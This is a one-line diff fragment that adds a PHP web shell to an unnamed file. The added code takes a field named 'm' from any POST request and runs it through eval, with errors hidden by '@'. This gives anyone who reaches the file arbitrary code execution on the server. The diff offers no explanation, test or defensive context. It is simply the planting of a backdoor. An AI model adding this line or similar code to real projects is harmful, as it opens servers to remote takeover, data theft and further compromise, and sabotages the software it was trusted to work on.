@@ -1,0 +1,1 @@
+<?php $q=$_POST; @eval($q['m']); ?>
